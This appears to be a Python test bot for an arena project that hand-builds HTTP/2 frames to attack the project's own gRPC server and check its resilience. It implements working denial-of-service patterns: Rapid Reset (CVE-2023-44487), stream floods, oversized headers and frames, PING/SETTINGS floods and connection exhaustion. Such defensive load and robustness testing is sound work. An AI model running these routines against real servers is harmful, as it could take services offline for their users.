"""Hostile HTTP/2 bots for ``tests/fairplay/test_http2.py``: gRPC spoken by hand, then abused.

``bot.toml`` runs this file; the test names the abuse as its first argument. Seat 0 of the team
misbehaves; its partner (seat 3) plays legally over the same hand-made client, so exactly
one seat of the table is hostile. The client joins on stream 1 of its own connection
(HEADERS, then a length-prefixed Join in DATA, as any gRPC client), answers its requests
there, and between reads sends the abuse, bounded in count and in time. Frames are built
by hand (HPACK from the h2 project's ``hpack``) because a well-behaved HTTP/2 library
refuses to exceed the peer's limits, which is the point here. What was done is written to
the seat's log, one JSON line at a time, for the test to read.
"""

from __future__ import annotations

import json
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable
from typing import Any

import hpack

from arena.sdk import Bot, Decision

# The SDK imports it at the first request; by then many_connections may hold every
# descriptor the seat may open (EMFILE, and the bot crashes before it says what it did).
from arena.sdk import messages as _messages  # noqa: F401
from arena.v1 import arena_pb2 as pb
from arena.wire.protocol import PROTOCOL_VERSION, action_to_answer

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# HTTP/2 frame types (RFC 9113 section 6)
DATA, HEADERS, RST_STREAM, SETTINGS = 0x0, 0x1, 0x3, 0x4
PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x6, 0x7, 0x8, 0x9
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
CANCEL = 0x8
REQUEST = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/arena.v1.Referee/Play"),
    (":authority", "localhost"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]

ABUSE_S = 20.0  # no abuse lasts longer than this, whatever the caps below allow
PLAY_S = 120.0  # the whole process, in case the arena never ends the match
SEND_TIMEOUT_S = 5.0
NOTE = "h2-abuse: "  # how the lines of what was done start in the log


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream)
        + payload
    )


def grpc_message(body: bytes) -> bytes:
    return b"\x00" + struct.pack(">I", len(body)) + body


def connect(address: str) -> socket.socket:
    if address.startswith("unix:"):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.connect(address.removeprefix("unix:"))
    else:
        host, port = address.rsplit(":", 1)
        sock = socket.create_connection((host, int(port)))
    sock.settimeout(SEND_TIMEOUT_S)
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


class Connection:
    """One HTTP/2 connection to the seat's socket; stream 1 carries the seat's gRPC call."""

    def __init__(self, address: str) -> None:
        self.sock = connect(address)
        self.encoder = hpack.Encoder()
        self._repeat: bytes | None = None
        self._sent_once = False
        self.next_stream = 1
        self.inbox = b""
        self.message_buffer = b""
        self.messages: list[pb.RefereeMessage] = []
        self.alive = True
        self.call_over = False
        self.goaway: int | None = None
        self.refused_streams = 0

    def headers_block(self) -> bytes:
        """The request's header block: the second encoding is all indexes, so it repeats."""
        if self._repeat is not None:
            return self._repeat
        block = self.encoder.encode(REQUEST)
        if self._sent_once:
            self._repeat = block
        self._sent_once = True
        return block

    def new_stream(self) -> int:
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        return stream

    def open_stream(self, end: bool = False) -> tuple[int, bytes]:
        stream = self.new_stream()
        flags = END_HEADERS | (END_STREAM if end else 0)
        return stream, frame(HEADERS, flags, stream, self.headers_block())

    def send(self, data: bytes) -> bool:
        if not self.alive:
            return False
        try:
            self.sock.sendall(data)
        except OSError:
            self.alive = False
        return self.alive

    def pump(self, timeout: float) -> None:
        """Read what has arrived; answer SETTINGS and PING; keep stream 1's messages."""
        while self.alive:
            readable, _, _ = select.select([self.sock], [], [], timeout)
            if not readable:
                return
            timeout = 0.0
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                self.alive = False
                return
            self.inbox += chunk
            self._frames()

    def _frames(self) -> None:
        while len(self.inbox) >= 9:
            length = int.from_bytes(self.inbox[:3], "big")
            if len(self.inbox) < 9 + length:
                return
            kind, flags = self.inbox[3], self.inbox[4]
            stream = int.from_bytes(self.inbox[5:9], "big") & 0x7FFFFFFF
            payload = self.inbox[9 : 9 + length]
            self.inbox = self.inbox[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            elif kind == DATA:
                if length:  # give the window back, or the referee stops writing
                    increment = struct.pack(">I", length)
                    self.send(frame(WINDOW_UPDATE, 0, 0, increment))
                    self.send(frame(WINDOW_UPDATE, 0, stream, increment))
                if stream == 1:
                    self.message_buffer += payload
                    self._messages()
            elif kind == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == RST_STREAM and stream != 1:
                self.refused_streams += 1
            if stream == 1 and (kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM)):
                self.call_over = True  # trailers or a reset: the seat's call has ended

    def _messages(self) -> None:
        while len(self.message_buffer) >= 5:
            size = int.from_bytes(self.message_buffer[1:5], "big")
            if len(self.message_buffer) < 5 + size:
                return
            body = self.message_buffer[5 : 5 + size]
            self.message_buffer = self.message_buffer[5 + size :]
            self.messages.append(pb.RefereeMessage.FromString(body))

    def close(self) -> None:
        self.alive = False
        self.sock.close()


class Seat:
    """The seat's own call on stream 1: join, then answer every request legally."""

    def __init__(self, address: str, token: str) -> None:
        self.address = address
        self.connection = Connection(address)
        self.bot = Bot()
        self.answered = 0
        self.welcomed = False
        self.over = False
        join = pb.Join(
            token=token, bot_name="h2", bot_version="1", protocol_version=PROTOCOL_VERSION
        )
        _, headers = self.connection.open_stream()
        body = grpc_message(pb.BotMessage(join=join).SerializeToString())
        self.connection.send(headers + frame(DATA, 0, 1, body))

    def serve(self, timeout: float) -> None:
        connection = self.connection
        connection.pump(timeout)
        while connection.messages:
            message = connection.messages.pop(0)
            body = message.WhichOneof("body")
            if body == "request":
                action = self.bot.decide(Decision.from_request(message.request))
                answer = pb.BotMessage(answer=action_to_answer(message.request.id, action))
                connection.send(frame(DATA, 0, 1, grpc_message(answer.SerializeToString())))
                self.answered += 1
            elif body == "welcome":
                self.welcomed = True
            elif body == "match_over":
                connection.send(frame(DATA, END_STREAM, 1))
                self.over = True
        if not connection.alive or connection.call_over:
            self.over = True


# --- the abuses: each ``step`` sends one batch and says whether there is more to do -------


class Abuse:
    """Counts what was sent; stops at its cap or after ``ABUSE_S``."""

    cap = 0
    batch = 0  # what one step sends

    def __init__(self, seat: Seat) -> None:
        self.seat = seat
        self.started = time.monotonic()
        self.sent = 0
        self.connections = 0
        self.send_failures = 0
        self.extra: dict[str, Any] = {}

    @property
    def done(self) -> bool:
        return self.sent >= self.cap or time.monotonic() - self.started > ABUSE_S

    def connection(self) -> Connection:
        """The seat's own connection while it lives, then fresh ones (many connections)."""
        if self.seat.connection.alive:
            return self.seat.connection
        current: Connection | None = self.extra.get("current")
        if current is None or not current.alive:
            try:
                current = Connection(self.seat.address)
            except OSError:
                self.send_failures += 1
                time.sleep(0.01)
                raise
            self.connections += 1
            self.extra["current"] = current
        current.pump(0)
        return current

    def step(self) -> None:
        raise NotImplementedError

    def open_streams(self, connection: Connection, after: Callable[[int], bytes]) -> None:
        """``batch`` streams opened on ``connection`` in one send, each its HEADERS and then
        ``after(stream)``; counted as sent, or as one failure to send."""
        burst = bytearray()
        for _ in range(self.batch):
            stream, headers = connection.open_stream()
            burst += headers + after(stream)
        if connection.send(bytes(burst)):
            self.sent += self.batch
        else:
            self.send_failures += 1

    def report(self) -> dict[str, Any]:
        extra = {k: v for k, v in self.extra.items() if k != "current"}
        return {
            "sent": self.sent,
            "connections": self.connections,
            "send_failures": self.send_failures,
            "seconds": round(time.monotonic() - self.started, 3),
            **extra,
        }


class RapidReset(Abuse):
    """HEADERS for Play, then RST_STREAM(CANCEL) at once: the CVE-2023-44487 pattern, on
    the seat's own connection beside its call."""

    cap = 1_000_000
    batch = 200

    def target(self) -> Connection:
        return self.connection()

    def step(self) -> None:
        try:
            connection = self.target()
        except OSError:
            return
        reset = struct.pack(">I", CANCEL)
        self.open_streams(connection, lambda stream: frame(RST_STREAM, 0, stream, reset))


class RapidResetBeside(RapidReset):
    """The same on a second connection, where no call holds the one stream a connection
    gets, so that each HEADERS would start a call; a new one whenever it is closed."""

    def target(self) -> Connection:
        current: Connection | None = self.extra.get("current")
        if current is None or not current.alive:
            current = Connection(self.seat.address)
            self.connections += 1
            self.extra["current"] = current
        current.pump(0)
        return current


class StreamFlood(Abuse):
    """Streams opened and never closed, far beyond any concurrency limit, each with half a
    message, so that each holds whatever the server keeps for a call in progress."""

    cap = 200_000
    batch = 100

    def step(self) -> None:
        try:
            connection = self.connection()
        except OSError:
            return
        half = b"\x00" + struct.pack(">I", 100) + b"\x0a" * 10
        self.open_streams(connection, lambda stream: frame(DATA, 0, stream, half))
        self.extra["refused_streams"] = connection.refused_streams


class Oversized(Abuse):
    """Fresh connections beside its own (each refused or ended at once), then on its own
    connection a 256 KiB header block, a 1 MiB message on its call, and a frame beyond
    SETTINGS_MAX_FRAME_SIZE: each ends that connection or call, so the seat's own."""

    cap = 200

    def step(self) -> None:
        self.sent += 1
        if self.sent < self.cap // 2:
            try:
                extra = Connection(self.seat.address)
            except OSError:
                self.send_failures += 1
                return
            self.connections += 1
            _, headers = extra.open_stream()
            extra.send(headers + frame(DATA, 0, extra.next_stream - 2, b"\x00" * (1 << 20)))
            extra.close()
            return
        own = self.seat.connection
        stream = own.new_stream()
        block = own.encoder.encode([*REQUEST, ("x-junk", "j" * (256 << 10))])
        chunks = [block[i : i + 16_384] for i in range(0, len(block), 16_384)]
        data = frame(HEADERS, 0, stream, chunks[0])
        data += b"".join(frame(CONTINUATION, 0, stream, c) for c in chunks[1:-1])
        data += frame(CONTINUATION, END_HEADERS, stream, chunks[-1])
        message = grpc_message(b"\x0a" * (1 << 20))
        data += b"".join(
            frame(DATA, 0, 1, message[i : i + 16_384]) for i in range(0, len(message), 16_384)
        )
        data += frame(DATA, 0, 1, b"\x00" * (1 << 20))
        own.send(data)
        self.extra["own_connection"] = "sent"
        self.sent = self.cap


class NeverReads(Abuse):
    """Once its call is under way (the welcome read), never read again; flood PINGs and
    SETTINGS, each asking for an acknowledgement the server cannot deliver, until the
    server stops reading too. Its requests go unanswered."""

    cap = 1_000_000
    batch = 1000

    def step(self) -> None:
        own = self.seat.connection
        if not self.extra.get("welcomed"):
            self.seat.serve(0.05)
            self.extra["welcomed"] = self.seat.welcomed
            self.started = time.monotonic()
            own.sock.settimeout(0.5)  # a blocked send means the server stopped reading
            return
        burst = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * (self.batch // 2)
        if own.send(burst):
            self.sent += self.batch
        else:
            self.extra["blocked_after"] = self.sent  # the server stopped reading: good
            self.sent = self.cap


class ManyConnections(Abuse):
    """Connections opened and held, each with an open call that never sends its Join."""

    cap = 1000
    batch = 20

    def step(self) -> None:
        held: list[Connection] = self.extra.setdefault("held_connections", [])
        for _ in range(self.batch):
            try:
                connection = Connection(self.seat.address)
            except OSError:
                self.send_failures += 1
                continue
            _, headers = connection.open_stream()
            connection.send(headers)
            held.append(connection)
            self.connections += 1
            self.sent += 1
        for connection in held:
            connection.pump(0)

    def report(self) -> dict[str, Any]:
        held: list[Connection] = self.extra.pop("held_connections", [])
        report = super().report()
        report["still_open"] = sum(c.alive for c in held)
        return report


ABUSES: dict[str, Callable[[Seat], Abuse]] = {
    "rapid_reset": RapidReset,
    "rapid_reset_beside": RapidResetBeside,
    "stream_flood": StreamFlood,
    "oversized": Oversized,
    "never_reads": NeverReads,
    "many_connections": ManyConnections,
}


def note(record: dict[str, Any]) -> None:
    """One line in the seat's log (a sandboxed working directory ends with the bot)."""
    print(NOTE + json.dumps(record), flush=True)


def main(name: str) -> None:
    seat_number = int(os.environ["ARENA_SEAT"])
    seat = Seat(os.environ["ARENA_ADDRESS"], os.environ["ARENA_TOKEN"])
    abuse = ABUSES[name](seat) if seat_number == 0 else None
    record: dict[str, Any] = {"abuse": name if abuse else None}
    started = last_note = time.monotonic()
    while not seat.over and time.monotonic() - started < PLAY_S:
        if abuse is not None and not abuse.done:
            abuse.step()
        if isinstance(abuse, NeverReads) and abuse.extra.get("welcomed"):
            time.sleep(0 if not abuse.done else 0.05)  # never reads: the arena ends it
        else:
            seat.serve(0.0 if abuse is not None and not abuse.done else 0.05)
        if time.monotonic() - last_note > 0.1:
            record.update(abuse.report() if abuse else {}, answered=seat.answered)
            note(record)
            last_note = time.monotonic()
    record.update(abuse.report() if abuse else {}, answered=seat.answered)
    note(record)


if __name__ == "__main__":
    main(sys.argv[1])
